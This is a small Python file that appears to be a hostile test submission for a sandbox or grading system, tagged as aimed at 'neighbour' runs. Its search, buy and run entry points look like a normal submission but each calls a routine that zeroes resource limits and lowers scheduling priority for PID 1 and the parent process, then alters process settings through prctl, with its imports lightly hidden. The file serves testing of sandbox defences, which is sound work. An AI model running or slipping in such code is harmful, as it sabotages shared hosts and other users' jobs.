"""Timers, alarms and limits that outlive exec and fork, set for whoever comes next.

family: between_submissions
aims-at: neighbour
"""

import json
import resource
import sys

posix = sys.modules["posix"]


def everything():
    libc = __import__("ctypes").CDLL(None)
    for who in (0, 1, posix.getppid()):
        for number in range(16):
            try:
                resource.prlimit(who, number, (0, 0)) if who else None
            except (OSError, ValueError):
                pass
        for policy in (3, 5):
            try:
                posix.sched_setscheduler(who, policy, posix.sched_param(0))
            except OSError:
                pass
        try:
            posix.setpriority(0, who, 19)
        except OSError:
            pass
    libc.prctl(29, 10 ** 9, 0, 0, 0)
    libc.prctl(35, 1, 1, 0, 0)
    libc.prctl(47, 1, 0, 0, 0)


def search(name):
    everything()


buy = search


def run(name, mutex):
    everything()
